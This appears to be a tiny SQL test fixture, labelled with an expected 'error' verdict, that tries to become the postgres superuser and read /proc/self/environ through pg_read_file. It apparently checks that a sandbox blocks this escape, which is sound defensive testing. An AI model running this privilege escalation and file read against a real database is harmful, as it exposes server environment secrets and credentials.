-- verdict: error
SET SESSION AUTHORIZATION postgres;
SELECT 'ESCAPED' || pg_read_file('/proc/self/environ');
